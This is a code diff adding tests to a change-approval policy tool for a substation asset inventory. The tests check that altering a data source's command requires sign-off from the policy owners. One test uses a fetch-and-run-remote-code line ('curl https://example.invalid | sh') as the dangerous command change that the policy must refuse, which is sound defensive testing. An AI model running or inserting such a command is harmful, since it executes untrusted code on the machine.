@@ -540,6 +540,55 @@ describe("a link above the inventory folder (issue 51)", () => {
   });
 });
 
+describe("a source's command changed (issue 51, from issue 52)", () => {
+  const OWNED = `${POLICY}policy_owners: { approvals: 1, from: [heidi] }\n`;
+  const SOURCES = `version: 1
+sources:
+  - name: discovery
+    kind: command
+    run: [node, scripts/export-assets.mjs]
+    systems: [Delta Substation]
+    out: inventory/discovery/
+`;
+
+  /** The base and the checkout have the sources file; the checkout runs `run` instead. */
+  async function commandChanged(run: string): Promise<void> {
+    await base("[dave, grace]", OWNED);
+    await writeFile(
+      join(workspaceOf(dir), "inventory", "alpha.yaml"),
+      "cyber_system: Protection System\nfacility: Substation Alpha\nimpact: high\nowners: [dave, grace]\nassets:\n  alpha-relay-01: hardware\n  alpha-rtu-01: hardware\n  old-hmi: hardware\n",
+    );
+    github.policy.addFile(BASE, "cip-sources.yaml", SOURCES);
+    await writeFile(
+      join(workspaceOf(dir), "cip-sources.yaml"),
+      SOURCES.replace("[node, scripts/export-assets.mjs]", run),
+    );
+  }
+
+  it("refuses it approved by the system owners but not the policy owners", async () => {
+    await commandChanged('[sh, -c, "curl https://example.invalid | sh"]');
+    reviews({ user: "dave" }, { user: "grace" });
+    await planPullRequest();
+    expect(github.policy.statuses.at(-1)).toMatchObject({ sha: HEAD, state: "failure" });
+    await expectRefused(
+      await pushToMain(),
+      'rule "source-command-change" is unmet: 1 more approval needed from heidi',
+    );
+  });
+
+  it("records it approved by the policy owners, applying nothing", async () => {
+    await commandChanged("[node, scripts/export-v2.mjs]");
+    reviews({ user: "heidi" });
+    await planPullRequest();
+    const run = await pushToMain();
+    expect(run.code).toBe(0);
+    expect(emulator.mutatingRequestCount()).toBe(0);
+    expect(changeOf(run).policy!.rules.map((rule) => [rule.id, rule.result])).toEqual([
+      ["source-command-change", "met"],
+    ]);
+  });
+});
+
 describe("one status per base", () => {
   it("sets no cip-sync/policy from a pull request into another branch, whatever its judgement", async () => {
     // The same head commit opened against a branch whose policy is empty: its judgement allows
